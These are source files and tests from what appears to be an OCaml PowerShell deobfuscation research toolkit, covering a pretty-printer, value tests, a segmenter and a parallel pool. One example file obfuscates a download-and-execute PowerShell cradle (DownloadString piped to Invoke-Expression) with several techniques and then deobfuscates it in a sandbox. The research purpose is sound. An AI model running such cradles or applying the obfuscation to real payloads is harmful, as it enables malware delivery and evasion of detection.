    | Ast.In_op -> "-" ^ prefix ^ "in"
    | Ast.Notin -> "-" ^ prefix ^ "notin"
    | Ast.Is_op -> "-is"
    | Ast.Isnot -> "-isnot"
    | Ast.As_op -> "-as"
    | Ast.Band -> "-band"
    | Ast.Bor -> "-bor"
    | Ast.Bxor -> "-bxor"
    | Ast.Shl -> "-shl"
    | Ast.Shr -> "-shr"
    | Ast.And_op -> "-and"
    | Ast.Or_op -> "-or"
    | Ast.Xor_op -> "-xor"
  in
  base

let assign_text = function
  | Ast.Assign -> "="
  | Ast.Plus_assign -> "+="
  | Ast.Minus_assign -> "-="
  | Ast.Times_assign -> "*="
  | Ast.Div_assign -> "/="
  | Ast.Mod_assign -> "%="

let variable_text (v : Ast.variable) =
  let sigil = if v.Ast.var_splat then "@" else "$" in
  let needs_braces =
    not
      (String.for_all
         (fun c ->
           match c with
           | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' | ':' -> true
           | _ -> false)
         v.Ast.var_name)
    && not (List.mem v.Ast.var_name [ "_"; "$"; "?"; "^" ])
  in
  if needs_braces then Printf.sprintf "%s{%s}" sigil v.Ast.var_name
  else sigil ^ v.Ast.var_name

let rec expr (t : Ast.t) =
  match t.Ast.node with
  | Ast.String_const (s, Ast.Bare) -> s
  | Ast.String_const (s, (Ast.Single_quoted | Ast.Single_here)) -> quote_single s
  | Ast.String_const (s, (Ast.Double_quoted | Ast.Double_here)) -> quote_double s
  | Ast.Expandable_string (_, parts) ->
      (* re-render from parts so interpolation stays live *)
      let buf = Buffer.create 32 in
      Buffer.add_char buf '"';
      let rec emit = function
        | [] -> ()
        | Ast.Part_text s :: rest ->
            String.iter
              (fun c ->
                match c with
                | '"' -> Buffer.add_string buf "`\""
                | '`' -> Buffer.add_string buf "``"
                | '$' -> Buffer.add_string buf "`$"
                | '\n' -> Buffer.add_string buf "`n"
                | '\r' -> Buffer.add_string buf "`r"
                | '\t' -> Buffer.add_string buf "`t"
                | c -> Buffer.add_char buf c)
              s;
            emit rest
        | Ast.Part_variable (v, _) :: rest ->
            (* brace the name when the following text would glue onto it *)
            let next_glues =
              match rest with
              | Ast.Part_text s :: _ when String.length s > 0 -> (
                  match s.[0] with
                  | 'a' .. 'z' | 'A' .. 'Z' | '0' .. '9' | '_' | ':' -> true
                  | _ -> false)
              | _ -> false
            in
            if next_glues then
              Buffer.add_string buf (Printf.sprintf "${%s}" v.Ast.var_name)
            else Buffer.add_string buf (variable_text v);
            emit rest
        | Ast.Part_subexpr e :: rest ->
            Buffer.add_string buf (expr e);
            emit rest
      in
      emit parts;
      Buffer.add_char buf '"';
      Buffer.contents buf
  | Ast.Number_const (Ast.Int_lit n) ->
      if n < 0 then Printf.sprintf "(%d)" n else string_of_int n
  | Ast.Number_const (Ast.Float_lit f) -> Printf.sprintf "%g" f
  | Ast.Variable_expr v -> variable_text v
  | Ast.Type_literal name -> "[" ^ name ^ "]"
  | Ast.Convert_expr (name, inner) -> "[" ^ name ^ "](" ^ expr inner ^ ")"
  | Ast.Unary_expr (op, inner) -> unop_text op ^ " (" ^ expr inner ^ ")"
  | Ast.Postfix_expr (Ast.Incr, inner) -> expr inner ^ "++"
  | Ast.Postfix_expr (_, inner) -> expr inner ^ "--"
  | Ast.Binary_expr (op, sens, a, b) ->
      "(" ^ expr a ^ " " ^ binop_text op sens ^ " " ^ expr b ^ ")"
  | Ast.Member_access (obj, m, static) ->
      expr obj ^ (if static then "::" else ".") ^ member m
  | Ast.Invoke_member (obj, m, args, static) ->
      expr obj
      ^ (if static then "::" else ".")
      ^ member m ^ "("
      ^ String.concat ", " (List.map expr args)
      ^ ")"
  | Ast.Index_expr (obj, idx) -> expr obj ^ "[" ^ expr idx ^ "]"
  | Ast.Array_literal elems -> String.concat ", " (List.map expr elems)
  | Ast.Array_expr stmts -> "@(" ^ String.concat "; " (List.map statement stmts) ^ ")"
  | Ast.Sub_expr stmts -> "$(" ^ String.concat "; " (List.map statement stmts) ^ ")"
  | Ast.Paren_expr inner -> "(" ^ statement inner ^ ")"
  | Ast.Hash_literal pairs ->
      "@{"
      ^ String.concat "; "
          (List.map (fun (k, v) -> expr k ^ " = " ^ statement v) pairs)
      ^ "}"
  | Ast.Script_block_expr sb -> "{ " ^ script_block_body sb ^ " }"
  | _ -> "(" ^ statement t ^ ")"

and unop_text = function
  | Ast.Not -> "-not"
  | Ast.Negate -> "-"
  | Ast.Unary_plus -> "+"
  | Ast.Bnot -> "-bnot"
  | Ast.Usplit -> "-split"
  | Ast.Ujoin -> "-join"
  | Ast.Incr -> "++"
  | Ast.Decr -> "--"

and member = function
  | Ast.Member_name n -> n
  | Ast.Member_dynamic e -> expr e

and command_element = function
  | Ast.Elem_name e -> expr e
  | Ast.Elem_parameter (p, Some v) -> p ^ (if String.length p > 0 && p.[String.length p - 1] = ':' then "" else " ") ^ expr v
  | Ast.Elem_parameter (p, None) -> p
  | Ast.Elem_argument a -> expr a
  | Ast.Elem_redirection r -> r

and command (cmd : Ast.command) =
  let prefix =
    match cmd.Ast.cmd_invocation with
    | Ast.Inv_normal -> ""
    | Ast.Inv_call -> "& "
    | Ast.Inv_dot -> ". "
  in
  prefix ^ String.concat " " (List.map command_element cmd.Ast.cmd_elements)

and statement (t : Ast.t) =
  match t.Ast.node with
  | Ast.Script_block sb -> script_block_body sb
  | Ast.Named_block (name, body) -> name ^ " " ^ block body
  | Ast.Statement_block stmts ->
      "{ " ^ String.concat "; " (List.map statement stmts) ^ " }"
  | Ast.Pipeline elems ->
      String.concat " | "
        (List.map
           (fun e ->
             match e.Ast.node with
             | Ast.Command cmd -> command cmd
             | Ast.Command_expression inner -> expr inner
             | _ -> expr e)
           elems)
  | Ast.Assignment (op, lhs, rhs) ->
      expr lhs ^ " " ^ assign_text op ^ " " ^ statement rhs
  | Ast.If_stmt (clauses, else_branch) ->
      let clause_text i (cond, body) =
        (if i = 0 then "if" else "elseif")
        ^ " (" ^ statement cond ^ ") " ^ block body
      in
      String.concat " " (List.mapi clause_text clauses)
      ^ (match else_branch with
        | Some b -> " else " ^ block b
        | None -> "")
  | Ast.While_stmt (cond, body) -> "while (" ^ statement cond ^ ") " ^ block body
  | Ast.Do_while_stmt (body, cond) ->
      "do " ^ block body ^ " while (" ^ statement cond ^ ")"
  | Ast.Do_until_stmt (body, cond) ->
      "do " ^ block body ^ " until (" ^ statement cond ^ ")"
  | Ast.For_stmt (init, cond, step, body) ->
      Printf.sprintf "for (%s; %s; %s) %s"
        (match init with Some s -> statement s | None -> "")
        (match cond with Some s -> statement s | None -> "")
        (match step with Some s -> statement s | None -> "")
        (block body)
  | Ast.Foreach_stmt (v, coll, body) ->
      Printf.sprintf "foreach (%s in %s) %s" (expr v) (statement coll) (block body)
  | Ast.Switch_stmt (value, cases, default) ->
      "switch (" ^ statement value ^ ") { "
      ^ String.concat " "
          (List.map (fun (p, b) -> expr p ^ " " ^ block b) cases)
      ^ (match default with
        | Some b -> " default " ^ block b
        | None -> "")
      ^ " }"
  | Ast.Function_def (name, params, body) ->
      Printf.sprintf "function %s%s %s" name
        (if params = [] then ""
         else "(" ^ String.concat ", " (List.map (fun p -> "$" ^ p) params) ^ ")")
        (block body)
  | Ast.Param_block names ->
      "param(" ^ String.concat ", " (List.map (fun p -> "$" ^ p) names) ^ ")"
  | Ast.Return_stmt (Some v) -> "return " ^ statement v
  | Ast.Return_stmt None -> "return"
  | Ast.Break_stmt -> "break"
  | Ast.Continue_stmt -> "continue"
  | Ast.Throw_stmt (Some v) -> "throw " ^ statement v
  | Ast.Throw_stmt None -> "throw"
  | Ast.Exit_stmt (Some v) -> "exit " ^ statement v
  | Ast.Exit_stmt None -> "exit"
  | Ast.Try_stmt (body, catches, finally) ->
      "try " ^ block body
      ^ String.concat ""
          (List.map
             (fun (types, b) ->
               " catch "
               ^ String.concat ""
                   (List.map (fun t -> "[" ^ t ^ "] ") types)
               ^ block b)
             catches)
      ^ (match finally with
        | Some b -> " finally " ^ block b
        | None -> "")
  | Ast.Trap_stmt body -> "trap " ^ block body
  | Ast.Command cmd -> command cmd
  | Ast.Command_expression e -> expr e
  | _ -> expr t

and block (t : Ast.t) =
  match t.Ast.node with
  | Ast.Statement_block stmts | Ast.Script_block { Ast.sb_statements = stmts; _ } ->
      "{ " ^ String.concat "; " (List.map statement stmts) ^ " }"
  | _ -> "{ " ^ statement t ^ " }"

and script_block_body (sb : Ast.script_block) =
  let params =
    if sb.Ast.sb_params = [] then ""
    else
      "param("
      ^ String.concat ", " (List.map (fun p -> "$" ^ p) sb.Ast.sb_params)
      ^ "); "
  in
  params ^ String.concat "; " (List.map statement sb.Ast.sb_statements)

(** Render a whole tree as a one-statement-per-line script. *)
let print (t : Ast.t) =
  match t.Ast.node with
  | Ast.Script_block sb ->
      let params =
        if sb.Ast.sb_params = [] then ""
        else
          "param("
          ^ String.concat ", " (List.map (fun p -> "$" ^ p) sb.Ast.sb_params)
          ^ ")\n"
      in
      params
      ^ String.concat "\n" (List.map statement sb.Ast.sb_statements)
      ^ "\n"
  | _ -> statement t ^ "\n"
