lib/pseval/env.ml: Hashtbl List Printf Psast Pscommon Psvalue Strcase String
