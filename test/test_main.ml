let () =
  Alcotest.run "invoke-deobfuscation"
    [
      ("pscommon", Test_pscommon.suite);
      ("encoding", Test_encoding.suite);
      ("regexen", Test_regexen.suite);
      ("pslex", Test_pslex.suite);
      ("psast", Test_psast.suite);
      ("psparse", Test_psparse.suite);
      ("psvalue", Test_psvalue.suite);
      ("pseval", Test_pseval.suite);
      ("guard", Test_guard.suite);
      ("resilience", Test_resilience.suite);
      ("telemetry", Test_telemetry.suite);
      ("obsplane", Test_obsplane.suite);
      ("parallel", Test_parallel.suite);
      ("piece-cache", Test_piece_cache.suite);
      ("ops", Test_ops.suite);
      ("obfuscator", Test_obfuscator.suite);
      ("deobf", Test_deobf.suite);
      ("verify", Test_verify.suite);
      ("provenance", Test_provenance.suite);
      ("serve", Test_serve.suite);
      ("selfheal", Test_selfheal.suite);
      ("baselines", Test_baselines.suite);
      ("corpus", Test_corpus.suite);
      ("experiments", Test_experiments.suite);
      ("paper-listings", Test_paper_listings.suite);
      ("regressions", Test_regressions.suite);
    ]
