(* Tests for the value model: conversions, stringification, source
   rendering, and the -f format engine. *)

module Value = Psvalue.Value

let check_s = Alcotest.(check string)
let check_b = Alcotest.(check bool)
let check_i = Alcotest.(check int)

(* ---------- stringification ---------- *)

let test_to_string () =
  check_s "null" "" (Value.to_string Value.Null);
  check_s "true" "True" (Value.to_string (Value.Bool true));
  check_s "false" "False" (Value.to_string (Value.Bool false));
  check_s "int" "42" (Value.to_string (Value.Int 42));
  check_s "float integral" "3" (Value.to_string (Value.Float 3.0));
  check_s "float fractional" "3.5" (Value.to_string (Value.Float 3.5));
  check_s "char" "h" (Value.to_string (Value.Char 'h'));
  check_s "array space-joined" "1 2 3"
    (Value.to_string (Value.Arr [| Value.Int 1; Value.Int 2; Value.Int 3 |]));
  check_s "hash" "System.Collections.Hashtable" (Value.to_string (Value.Hash []))

(* ---------- numeric conversions ---------- *)

let test_to_int () =
  check_i "int" 5 (Value.to_int (Value.Int 5));
  check_i "string" 42 (Value.to_int (Value.Str "42"));
  check_i "hex string" 75 (Value.to_int (Value.Str "0x4B"));
  check_i "trimmed" 7 (Value.to_int (Value.Str " 7 "));
  check_i "char code" 104 (Value.to_int (Value.Char 'h'));
  check_i "bool" 1 (Value.to_int (Value.Bool true));
  check_i "null" 0 (Value.to_int Value.Null);
  check_i "float rounds" 4 (Value.to_int (Value.Float 3.6));
  check_b "bad string raises" true
    (match Value.to_int (Value.Str "nope") with
    | exception Value.Conversion_error _ -> true
    | _ -> false)

let test_to_bool () =
  check_b "empty string" false (Value.to_bool (Value.Str ""));
  check_b "nonempty string" true (Value.to_bool (Value.Str "0"));
  check_b "zero" false (Value.to_bool (Value.Int 0));
  check_b "empty array" false (Value.to_bool (Value.Arr [||]));
  check_b "singleton falsy" false (Value.to_bool (Value.Arr [| Value.Int 0 |]));
  check_b "two elements" true
    (Value.to_bool (Value.Arr [| Value.Int 0; Value.Int 0 |]))

let test_to_char () =
  check_b "code point" true (Value.to_char (Value.Int 104) = 'h');
  check_b "single char string" true (Value.to_char (Value.Str "x") = 'x');
  check_b "long string raises" true
    (match Value.to_char (Value.Str "xy") with
    | exception Value.Conversion_error _ -> true
    | _ -> false)

let test_bytes_roundtrip () =
  let data = "MZ\x90\x00binary" in
  check_s "value_to_bytes . bytes_to_value" data
    (Value.value_to_bytes (Value.bytes_to_value data))

(* ---------- loose equality / ordering ---------- *)

let test_equal_loose () =
  check_b "caseless strings" true (Value.equal_loose (Value.Str "ABC") (Value.Str "abc"));
  check_b "case sensitive opt" false
    (Value.equal_loose ~case_sensitive:true (Value.Str "ABC") (Value.Str "abc"));
  check_b "int vs numeric string" true (Value.equal_loose (Value.Int 5) (Value.Str "5"));
  check_b "string lhs coerces rhs" true (Value.equal_loose (Value.Str "5") (Value.Int 5));
  check_b "null only equals null" false (Value.equal_loose Value.Null (Value.Int 0));
  check_b "null equals null" true (Value.equal_loose Value.Null Value.Null)

let test_compare_loose () =
  check_b "int order" true (Value.compare_loose (Value.Int 1) (Value.Int 2) < 0);
  check_b "string order caseless" true
    (Value.compare_loose (Value.Str "A") (Value.Str "b") < 0);
  check_b "numeric lhs coerces" true
    (Value.compare_loose (Value.Int 10) (Value.Str "9") > 0)

(* ---------- source rendering ---------- *)

let test_to_source () =
  Alcotest.(check (option string)) "string" (Some "'hi'")
    (Value.to_source_opt (Value.Str "hi"));
  Alcotest.(check (option string)) "quote doubling" (Some "'it''s'")
    (Value.to_source_opt (Value.Str "it's"));
  Alcotest.(check (option string)) "int" (Some "42")
    (Value.to_source_opt (Value.Int 42));
  Alcotest.(check (option string)) "bool" (Some "$true")
    (Value.to_source_opt (Value.Bool true));
  Alcotest.(check (option string)) "char as cast" (Some "[char]104")
    (Value.to_source_opt (Value.Char 'h'));
  Alcotest.(check (option string)) "string array" (Some "'a','b'")
    (Value.to_source_opt (Value.Arr [| Value.Str "a"; Value.Str "b" |]));
  Alcotest.(check (option string)) "empty array" (Some "@()")
    (Value.to_source_opt (Value.Arr [||]));
  Alcotest.(check (option string)) "control chars unrepresentable" None
    (Value.to_source_opt (Value.Str "a\x01b"));
  Alcotest.(check (option string)) "objects unrepresentable" None
    (Value.to_source_opt (Value.Hash []))

let test_rendered_source_reparses () =
  List.iter
    (fun v ->
      match Value.to_source_opt v with
      | Some src ->
          check_b "valid syntax" true (Psparse.Parser.is_valid_syntax src)
      | None -> ())
    [ Value.Str "hello"; Value.Str "it's got 'quotes'"; Value.Int (-3);
      Value.Float 2.5; Value.Char 'z';
      Value.Arr [| Value.Str "x"; Value.Str "y"; Value.Str "z" |] ]

(* ---------- format engine ---------- *)

let fmt template args = Psvalue.Format_op.format template args

let test_format_basics () =
  check_s "simple" "ab" (fmt "{0}{1}" [ Value.Str "a"; Value.Str "b" ]);
  check_s "reorder" "ba" (fmt "{1}{0}" [ Value.Str "a"; Value.Str "b" ]);
  check_s "repeat" "aa" (fmt "{0}{0}" [ Value.Str "a" ]);
  check_s "literal text" "x=1." (fmt "x={0}." [ Value.Int 1 ])

let test_format_escapes () =
  check_s "double braces" "{0}" (fmt "{{0}}" []);
  check_s "mixed" "{v}" (fmt "{{{0}}}" [ Value.Str "v" ])

let test_format_alignment () =
  check_s "right align" "  x" (fmt "{0,3}" [ Value.Str "x" ]);
  check_s "left align" "x  " (fmt "{0,-3}" [ Value.Str "x" ]);
  check_s "wider than field" "xyz" (fmt "{0,2}" [ Value.Str "xyz" ])

let test_format_numeric () =
  check_s "hex" "ff" (String.lowercase_ascii (fmt "{0:X}" [ Value.Int 255 ]));
  check_s "padded hex" "0F" (fmt "{0:X2}" [ Value.Int 15 ]);
  check_s "decimal pad" "007" (fmt "{0:D3}" [ Value.Int 7 ])

let test_format_errors () =
  check_b "index out of range" true
    (match fmt "{3}" [ Value.Str "a" ] with
    | exception Psvalue.Format_op.Format_error _ -> true
    | _ -> false);
  check_b "unclosed" true
    (match fmt "{0" [ Value.Str "a" ] with
    | exception Psvalue.Format_op.Format_error _ -> true
    | _ -> false)

let prop_format_identity_template =
  QCheck.Test.make ~name:"format: {0} is to_string" ~count:200
    QCheck.(string_of_size Gen.(int_range 0 30))
    (fun s ->
      (* braces in the payload would be treated as format items *)
      QCheck.assume (not (String.contains s '{' || String.contains s '}'));
      fmt "{0}" [ Value.Str s ] = s)

let prop_source_roundtrips_through_eval =
  QCheck.Test.make ~name:"to_source: rendered literal evaluates back" ~count:200
    (QCheck.make
       QCheck.Gen.(
         oneof
           [ map (fun s -> Value.Str s) (string_size (int_range 0 20));
             map (fun n -> Value.Int n) small_int ]))
    (fun v ->
      match Value.to_source_opt v with
      | None -> true
      | Some src -> (
          let env = Pseval.Env.create () in
          match Pseval.Interp.invoke_piece env src with
          | Ok v' -> Value.to_string v' = Value.to_string v
          | Error _ -> false))

let suite =
  [
    ("to_string", `Quick, test_to_string);
    ("to_int", `Quick, test_to_int);
    ("to_bool", `Quick, test_to_bool);
    ("to_char", `Quick, test_to_char);
    ("bytes roundtrip", `Quick, test_bytes_roundtrip);
    ("equal_loose", `Quick, test_equal_loose);
    ("compare_loose", `Quick, test_compare_loose);
    ("to_source", `Quick, test_to_source);
    ("rendered source reparses", `Quick, test_rendered_source_reparses);
    ("format basics", `Quick, test_format_basics);
    ("format escapes", `Quick, test_format_escapes);
    ("format alignment", `Quick, test_format_alignment);
    ("format numeric", `Quick, test_format_numeric);
    ("format errors", `Quick, test_format_errors);
    QCheck_alcotest.to_alcotest prop_format_identity_template;
    QCheck_alcotest.to_alcotest prop_source_roundtrips_through_eval;
  ]
