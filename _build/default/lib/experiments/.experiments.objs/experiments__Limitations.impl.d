lib/experiments/limitations.ml: Deobf List Obfuscator Printf Pscommon Rng Sandbox Strcase
