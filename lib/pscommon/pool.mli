(** Fixed-size domain pool: parallel map over a work queue with
    deterministic, input-ordered results.

    Built for batch deobfuscation: each work item is independent, already
    totalised by {!Guard.protect}, and its result slot is private to the
    item, so the only shared state is the index counter.  Worker domains
    pull the next index atomically; results land in a pre-sized array, so
    the output order is the input order regardless of scheduling. *)

val recommended_jobs : unit -> int
(** [Domain.recommended_domain_count ()] — the hardware's parallelism. *)

val map : ?jobs:int -> ('a -> 'b) -> 'a list -> 'b list
(** [map ~jobs f items] applies [f] to every item, running up to [jobs]
    domains (the calling domain counts as one).  [jobs <= 1] runs
    sequentially in the calling domain, spawning nothing.  Results are in
    input order.  If [f] raises, the exception with the lowest input index
    is re-raised after all workers have drained (callers in this codebase
    pass total functions, so this is a backstop, not a protocol).

    Parallel runs feed the {!Telemetry.Metrics} registry: histograms
    [pool.queue_wait_ms] (pool start → claim) and [pool.run_ms] per item,
    counters [pool.tasks.d<k>] per worker domain, gauge [pool.jobs]. *)

val iter : ?jobs:int -> ('a -> unit) -> 'a list -> unit
(** [iter ~jobs f items] — {!map} with unit results. *)
