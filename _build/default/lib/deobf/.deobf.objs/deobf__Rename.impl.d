lib/deobf/rename.ml: Buffer Char Extent Hashtbl List Patch Printf Pscommon Pslex Psparse Strcase String Tracer
