(** Adaptive rule quarantine: per-rule circuit breakers fed by verify
    rollbacks.

    The verify gate ({!Verify.gate}) already bisects a semantic divergence
    down to the transform that caused it and rolls that transform back.
    Quarantine closes the loop {e across} requests: a rule (attribution
    name [phase ^ "." ^ kind], e.g. ["recover.substitute"] or
    ["engine.finalize"]) rolled back at least K times inside a sliding
    window trips its breaker {e open} — subsequent requests skip the rule
    up front (counted in [quarantine.skipped]) instead of paying transform
    plus verify plus bisection plus rollback every time.  After a cooldown
    the breaker goes {e half-open}: exactly one request re-admits the rule
    as a probe; a clean verify closes the breaker (the rule earns its way
    back), another rollback re-opens it with a doubled cooldown.

    This is the adaptive counterpart of {!Blocklist}: a blocklist encodes
    {e static} distrust decided offline, quarantine earns and loses trust
    {e online} from observed rollbacks, and converges back to full rule
    coverage when the offending input pattern stops arriving.

    Scope: decisions are per-request-stable (the verify gate reruns the
    engine; a breaker flipping mid-request would make reruns diverge for
    reasons unrelated to the suppression under test), kept in domain-local
    state between {!begin_request} and {!end_request}.  The registry itself
    is process-global and thread-safe.  Disabled (the default) every
    [admits] answers [true] and nothing is recorded — batch runs keep their
    jobs-count-independent byte-identity; the serve daemon enables it
    unless started with [--no-quarantine].

    Metrics: counters [quarantine.trips], [quarantine.skipped],
    [quarantine.probes], [quarantine.readmitted]; gauge
    [quarantine.open_rules]. *)

type state = Closed | Open | Half_open

val state_name : state -> string
(** ["closed"], ["open"], ["half-open"]. *)

val set_enabled : bool -> unit
val enabled : unit -> bool

val configure : ?k:int -> ?window_s:float -> ?cooldown_s:float -> unit -> unit
(** [k] rollbacks (default 3) within [window_s] seconds (default 300) trip
    the breaker; the first open lasts [cooldown_s] seconds (default 30),
    doubling on every failed half-open probe. *)

val begin_request : unit -> unit
(** Open a request scope on this domain: admission decisions made during
    the request are cached for its duration.  No-op when disabled. *)

val admits : phase:string -> kind:string -> bool
(** Should the rule [phase ^ "." ^ kind] run?  [true] when disabled, when
    outside a request scope, or when the breaker is closed; a half-open
    breaker admits exactly one probing request.  The first answer for a
    rule is cached for the rest of the request. *)

val end_request : rolled_rules:string list -> unit
(** Close the request scope with the verify verdict: [rolled_rules] are
    the attribution names of transforms the gate rolled back.  Each one is
    recorded (possibly tripping its breaker, or failing its probe); probed
    rules that were {e not} rolled back close their breaker. *)

val abort_request : unit -> unit
(** Drop the request scope without a verdict (request died before verify);
    probe slots are released by the next admission. *)

val snapshot : unit -> (string * string) list
(** Non-closed breakers as [(rule, state_name)] pairs, sorted — for the
    [--summary] line, the daemon [metrics] op and the scrape endpoint. *)

val trips : string -> int
(** Lifetime trip count for a rule (test/bench hook). *)

val reset : unit -> unit
(** Forget every breaker and any request scope on this domain (tests). *)
