lib/pscommon/strcase.ml: Buffer Char Map Set String
