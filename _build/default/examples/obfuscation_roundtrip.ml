(* Obfuscation lab: apply every technique of the paper's Table II to a
   payload, verify in the sandbox that obfuscation preserved behaviour, then
   deobfuscate and check how much each technique resisted.

   Run with:  dune exec examples/obfuscation_roundtrip.exe *)

let payload =
  "$u = 'https://updates.example.com/payload.txt'\n\
   $c = (New-Object Net.WebClient).DownloadString($u)\n\
   Invoke-Expression $c"

let () =
  let rng = Pscommon.Rng.of_int 99 in
  let reference = Sandbox.run payload in
  Printf.printf "payload network behaviour: %s\n\n"
    (String.concat ", " (Sandbox.network_signature reference));
  Printf.printf "%-22s %6s %9s %9s %10s %s\n" "technique" "level" "size"
    "behavior" "score" "deobf-score";
  List.iter
    (fun technique ->
      let obfuscated = Obfuscator.Obfuscate.apply rng technique payload in
      let same =
        Sandbox.same_network_behavior reference (Sandbox.run obfuscated)
      in
      let recovered = (Deobf.Engine.run obfuscated).Deobf.Engine.output in
      Printf.printf "%-22s %6d %8dB %9s %10d %d\n"
        (Obfuscator.Technique.name technique)
        (Obfuscator.Technique.level technique)
        (String.length obfuscated)
        (if same then "same" else "CHANGED")
        (Deobf.Score.score obfuscated)
        (Deobf.Score.score recovered))
    Obfuscator.Technique.all;
  print_newline ();

  (* stacked layers: the multi-layer case of Table III *)
  let layered = Obfuscator.Obfuscate.multilayer rng 3 payload in
  Printf.printf "3-layer sample (%d bytes) -> " (String.length layered);
  let result = Deobf.Engine.run layered in
  Printf.printf "unwrapped %d layers; final output:\n%s\n"
    result.stats.Deobf.Recover.layers_unwrapped
    (String.trim result.Deobf.Engine.output)
