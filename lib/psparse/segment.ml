(** Statement-boundary segmentation of unparseable scripts; interface
    documentation in segment.mli. *)

type kind = Parseable | Opaque | Binary

type region = { start : int; stop : int; kind : kind }

(* ---------- sync-point scanner ----------

   A lightweight single-pass state machine, deliberately independent of the
   lexer: it must keep walking through exactly the inputs the lexer rejects.
   It understands enough surface syntax — quoting, here-strings, comments,
   backtick escapes, bracket depth — to know when a newline or ';' really
   ends a statement. *)

type scan_state =
  | Code
  | Single_quoted
  | Double_quoted
  | Single_here  (* @' ... '@ at line start *)
  | Double_here  (* @" ... "@ at line start *)
  | Line_comment
  | Block_comment

let sync_points_gen ~ignore_depth src =
  let n = String.length src in
  let pts = ref [ 0 ] in
  let depth = ref 0 in
  let state = ref Code in
  let i = ref 0 in
  let at c k = !i + k < n && src.[!i + k] = c in
  while !i < n do
    let c = src.[!i] in
    (match !state with
    | Code -> (
        match c with
        | '`' -> incr i (* escape: skip the next char *)
        | '\'' -> state := Single_quoted
        | '"' -> state := Double_quoted
        | '@' when at '\'' 1 -> state := Single_here
        | '@' when at '"' 1 -> state := Double_here
        | '$' when at '{' 1 ->
            (* braced variable ${...}: the name may contain '#', quotes or
               brackets, none of which affect surrounding structure — skip
               to the closing '}' (names cannot span lines) *)
            let j = ref (!i + 2) in
            while !j < n && src.[!j] <> '}' && src.[!j] <> '\n' do incr j done;
            if !j < n && src.[!j] = '}' then i := !j
        | '<' when at '#' 1 -> state := Block_comment
        | '#' -> state := Line_comment
        | '(' | '[' | '{' -> incr depth
        | ')' | ']' | '}' -> if !depth > 0 then decr depth
        | '\n' | ';' ->
            if ignore_depth || !depth = 0 then pts := (!i + 1) :: !pts
        | _ -> ())
    | Single_quoted ->
        if c = '\'' then
          if at '\'' 1 then incr i (* '' escape *) else state := Code
    | Double_quoted -> (
        match c with
        | '`' -> incr i
        | '"' -> if at '"' 1 then incr i (* "" escape *) else state := Code
        | _ -> ())
    | Single_here ->
        (* terminator must sit at the start of a line *)
        if c = '\'' && at '@' 1 && (!i = 0 || src.[!i - 1] = '\n') then begin
          state := Code;
          incr i
        end
    | Double_here ->
        if c = '"' && at '@' 1 && (!i = 0 || src.[!i - 1] = '\n') then begin
          state := Code;
          incr i
        end
    | Line_comment ->
        if c = '\n' then begin
          state := Code;
          if ignore_depth || !depth = 0 then pts := (!i + 1) :: !pts
        end
    | Block_comment -> if c = '#' && at '>' 1 then begin state := Code; incr i end);
    incr i
  done;
  let pts = if List.hd !pts = n then !pts else n :: !pts in
  List.sort_uniq compare pts

let sync_points src = sync_points_gen ~ignore_depth:false src

(* ---------- chunk classification ---------- *)

let is_binary_text s =
  String.contains s '\000'
  ||
  let bad = ref 0 in
  String.iter
    (fun c ->
      match c with
      | '\t' | '\n' | '\r' -> ()
      | c when Char.code c < 0x20 || Char.code c >= 0x7f -> incr bad
      | _ -> ())
    s;
  String.length s > 0 && float_of_int !bad /. float_of_int (String.length s) > 0.3

let is_blank s = String.for_all (fun c -> c = ' ' || c = '\t' || c = '\n' || c = '\r') s

(* ---------- segmentation ---------- *)

let segment ?(max_attempts = 512) src =
  let n = String.length src in
  if n = 0 then []
  else begin
    let attempts = ref 0 in
    let try_parse text =
      if !attempts >= max_attempts then false
      else begin
        incr attempts;
        (* contained: a chunk whose parse overflows the stack (or trips an
           ambient deadline) is simply not parseable *)
        match Pscommon.Guard.protect (fun () -> Parser.is_valid_syntax text) with
        | Ok ok -> ok
        | Error _ -> false
      end
    in
    (* chunks between consecutive sync points, each pre-classified *)
    let rec chunks = function
      | a :: (b :: _ as rest) ->
          if b > a then (a, b) :: chunks rest else chunks rest
      | _ -> []
    in
    let chunk_kind (a, b) =
      let text = String.sub src a (b - a) in
      if is_binary_text text then Binary
      else if is_blank text || try_parse text then Parseable
      else Opaque
    in
    (* coalesce a run of individually-parseable chunks into maximal regions
       whose concatenation still parses, splitting recursively when a merge
       fails (e.g. a statement pair severed by a truncated here-string) *)
    let rec coalesce run =
      match run with
      | [] -> []
      | [ (a, b) ] -> [ { start = a; stop = b; kind = Parseable } ]
      | _ ->
          let a = fst (List.hd run) in
          let b = snd (List.nth run (List.length run - 1)) in
          if try_parse (String.sub src a (b - a)) then
            [ { start = a; stop = b; kind = Parseable } ]
          else
            let half = List.length run / 2 in
            let left = List.filteri (fun i _ -> i < half) run in
            let right = List.filteri (fun i _ -> i >= half) run in
            coalesce left @ coalesce right
    in
    let rec group acc current = function
      | [] -> (
          match current with
          | None -> List.rev acc
          | Some (run, _) -> List.rev (List.rev (coalesce (List.rev run)) @ acc))
      | ((a, b), kind) :: rest -> (
          match (kind, current) with
          | Parseable, Some (run, ()) -> group acc (Some ((a, b) :: run, ())) rest
          | Parseable, None -> group acc (Some ([ (a, b) ], ())) rest
          | (Opaque | Binary), cur ->
              let acc =
                match cur with
                | Some (run, ()) -> List.rev (coalesce (List.rev run)) @ acc
                | None -> acc
              in
              group ({ start = a; stop = b; kind } :: acc) None rest)
    in
    (* segment the byte range [a0, b0): sync points on the slice, shifted
       back to absolute offsets *)
    let segment_range ~ignore_depth (a0, b0) =
      let pts =
        List.map
          (fun p -> p + a0)
          (sync_points_gen ~ignore_depth (String.sub src a0 (b0 - a0)))
      in
      let classified = List.map (fun c -> (c, chunk_kind c)) (chunks pts) in
      group [] None classified
    in
    let regions = segment_range ~ignore_depth:false (0, n) in
    (* refinement pass: inside an opaque or binary region, bracket depth is
       not to be trusted — an unbalanced opener in the damage would
       otherwise swallow every later statement into one unparseable span.
       Re-split the region at quote-aware newlines ignoring depth; keep the
       refinement only if it actually surfaces a parseable sub-region. *)
    let regions =
      List.concat_map
        (fun r ->
          if r.kind = Parseable || !attempts >= max_attempts then [ r ]
          else
            let subs = segment_range ~ignore_depth:true (r.start, r.stop) in
            let recovers s =
              s.kind = Parseable
              && not (is_blank (String.sub src s.start (s.stop - s.start)))
            in
            if List.exists recovers subs then subs else [ r ])
        regions
    in
    (* demote whitespace-only "parseable" regions: nothing to recover *)
    let regions =
      List.map
        (fun r ->
          if r.kind = Parseable && is_blank (String.sub src r.start (r.stop - r.start))
          then { r with kind = Opaque }
          else r)
        regions
    in
